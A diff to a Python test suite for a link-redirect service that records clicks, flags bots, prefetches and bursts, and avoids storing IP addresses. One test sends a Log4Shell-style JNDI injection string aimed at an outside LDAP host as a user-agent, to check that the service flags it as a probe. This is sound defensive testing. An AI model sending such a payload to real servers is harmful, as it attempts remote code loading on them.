@@ -26,9 +26,10 @@ def app(engine, seeded):
     redirect.sink.close()
 
 
-def client(app, ip="168.95.1.1"):
+def client(app, ip="168.95.1.1", language: str | None = "zh-TW,zh;q=0.9,en;q=0.8"):
+    """A client that sends what a browser sends besides its agent (Accept-Language), unless LANGUAGE is None."""
     return httpx.AsyncClient(transport=httpx.ASGITransport(app=app, client=(ip, 50000)),
-                             base_url="http://testserver")
+                             base_url="http://testserver", headers={"accept-language": language} if language else {})
 
 
 def clicks(engine):
@@ -57,6 +58,8 @@ def test_get_redirects_after_recording_the_click(engine, app, seeded):
     assert row["is_bot"] is False and row["bot_reason"] is None
     assert (row["country"], row["device"], row["os"], row["app"]) == ("TW", "mobile", "iOS", "Instagram")
     assert row["referrer"] == "https://l.instagram.com/"
+    assert (row["user_agent"], row["request_hints"]) == (IG, None)  # what the rules need, never the address
+    assert "168.95.1.1" not in str(row)
     assert len(row["visitor_hash"]) == 32
     assert isinstance(row["ts"], dt.datetime) and abs(row["ts"] - dt.datetime.utcnow()) < dt.timedelta(minutes=1)
 
@@ -72,17 +75,22 @@ def test_unknown_slug_is_404_without_any_write(engine, app):
         assert conn.execute(sa.select(sa.func.count()).select_from(tracking_salts)).scalar() == 0
 
 
-def test_head_is_answered_but_not_counted_and_post_is_refused(engine, app):
+def test_head_and_options_are_recorded_as_bots_and_post_is_refused(engine, app):
     async def go():
         async with client(app) as c:
-            return await c.head("/l/mei-ig"), await c.post("/l/mei-ig"), await c.get("/l/mei-ig/")
+            return (await c.head("/l/mei-ig", headers={"user-agent": IG}), await c.options("/l/mei-ig"),
+                    await c.post("/l/mei-ig"), await c.get("/l/mei-ig/", headers={"user-agent": IG}))
 
-    head, post, slash = run(go())
-    assert head.status_code == 302 and "isc=" not in head.headers["location"]
-    assert "utm_content=meilin.eats" in head.headers["location"]
-    assert post.status_code == 405 and post.headers["allow"] == "GET, HEAD"
+    head, options, post, slash = run(go())
+    assert head.status_code == 302 and "utm_content=meilin.eats" in head.headers["location"]
+    head_key = parse_qs(urlsplit(head.headers["location"]).query)["isc"][0]
+    assert options.status_code == 204 and options.headers["allow"] == "GET, HEAD, OPTIONS"
+    assert post.status_code == 405 and post.headers["allow"] == "GET, HEAD, OPTIONS"
     assert slash.status_code == 302
-    assert len(clicks(engine)) == 1
+    rows = clicks(engine)
+    assert [(r["is_bot"], r["bot_reason"], r["request_hints"]) for r in rows] == [
+        (True, "method:head", "head"), (True, "method:options", "options"), (False, None, None)]
+    assert rows[0]["key"] == head_key and rows[0]["app"] == "Instagram"
 
 
 def test_bots_are_recorded_and_flagged(engine, app):
@@ -91,10 +99,31 @@ def test_bots_are_recorded_and_flagged(engine, app):
             await c.get("/l/mei-ig", headers={"user-agent": BOTS["facebookexternalhit"][0]})
             await c.get("/l/mei-ig", headers={"user-agent": HUMANS["facebook_ios"][0], "x-purpose": "preview"})
             await c.get("/l/mei-ig", headers={"user-agent": ""})
+            await c.get("/l/mei-ig", headers={"user-agent": "${jndi:ldap://198.51.100.7/a}"})
+        async with client(app, language=None) as c:
+            await c.get("/l/mei-ig", headers={"user-agent": HUMANS["chrome_windows"][0]})
 
     run(go())
-    assert [(r["is_bot"], r["bot_reason"]) for r in clicks(engine)] == [
-        (True, "crawler:facebookexternalhit"), (True, "prefetch:x-purpose"), (True, "empty_user_agent")]
+    assert [(r["is_bot"], r["bot_reason"], r["request_hints"]) for r in clicks(engine)] == [
+        (True, "list:crawlerdetect", None), (True, "header:prefetch", "prefetch"), (True, "rule:empty", None),
+        (True, "rule:probe", None), (True, "signal:no-accept-language", "no-accept-language")]
+
+
+def test_a_burst_from_one_visitor_on_one_link_is_suspect(engine, app, seeded):
+    links.create_link(engine, campaign="spring", platform="tiktok", slug="other", destination="https://x.example/")
+
+    async def go():
+        async with client(app, "168.95.1.1") as c:
+            for _ in range(7):
+                await c.get("/l/mei-ig", headers={"user-agent": IG})
+            await c.get("/l/other", headers={"user-agent": IG})  # another link: its own count
+        async with client(app, "8.8.8.8") as c:
+            await c.get("/l/mei-ig", headers={"user-agent": IG})  # another visitor
+
+    run(go())
+    rows = clicks(engine)
+    assert [r["bot_reason"] for r in rows] == [None] * 4 + ["signal:burst"] * 3 + [None, None]
+    assert rows[4]["is_bot"] is True and rows[4]["request_hints"] is None  # a burst is no request hint
 
 
 def test_visitor_hash_is_stable_per_visitor_and_the_ip_is_not_stored(engine, app):
